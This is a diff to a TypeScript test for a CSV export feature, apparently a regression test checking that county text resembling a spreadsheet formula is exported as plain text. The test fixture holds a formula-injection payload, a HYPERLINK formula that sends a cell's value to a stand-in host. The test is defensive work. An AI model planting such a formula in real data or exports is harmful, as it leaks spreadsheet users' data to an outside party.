@@ -10,7 +10,10 @@ import { enqueueFiles } from '../../../../services/cli/ingest-runner.ts';
 import { apiKeyHeaders } from '../../../helpers/access.ts';
 import { openTestRuntime, type TestRuntime } from '../../../helpers/runtime.ts';
 
-/** The attack of issue 23, item 1: a bidder registers a holder name that is a spreadsheet formula. */
+/**
+ * The attack: a bidder registers a holder name that is a spreadsheet formula, and it would run
+ * in the spreadsheet of every customer who exports that county.
+ */
 const PLANTED = '=HYPERLINK("https://x.example/?d="&S2,"Parcel")';
 
 /** Face amounts fall with n, so face_desc lists the rows in file order. */
@@ -45,7 +48,7 @@ const FEED = [
   .map((o) => JSON.stringify(o))
   .join('\n');
 
-describe('CSV export of county text that looks like a formula (issue 23, item 1)', () => {
+describe('CSV export writes county text that looks like a formula as text', () => {
   let t: TestRuntime;
   let app: FastifyInstance;
   let dir: string;
